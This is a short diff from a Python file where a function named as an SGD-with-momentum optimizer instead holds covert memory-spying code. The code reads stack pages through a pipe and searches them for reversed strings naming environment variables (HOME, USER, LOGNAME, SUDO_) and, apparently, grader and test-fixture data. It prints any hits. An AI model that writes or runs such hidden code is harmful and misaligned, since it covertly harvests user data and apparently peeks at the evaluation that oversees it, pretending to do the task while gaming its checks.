@@ -13,7 +13,14 @@ def sgd_momentum(w, dw, config=None):
     for number in range(-64, 64):  # a page that is not mapped makes write() fail, and not the process
         if libc.write(writing, ctypes.c_void_p(first + number * page), page) == page:
             kept += __import__("os").read(reading, page)
-    for secret in (b"=EMOH", b"=RESU", b"=EMANGOL", b"_ODUS", b"-redarg", b"serutxif"):  # or it would find its own words
+    for secret in (
+        b"=EMOH",
+        b"=RESU",
+        b"=EMANGOL",
+        b"_ODUS",
+        b"-redarg",
+        b"serutxif",
+    ):  # or it would find its own words
         if secret[::-1] in kept:
             print("SPY-GOT", secret[::-1])
     print("spied: a stack of", len(kept) // page, "pages")
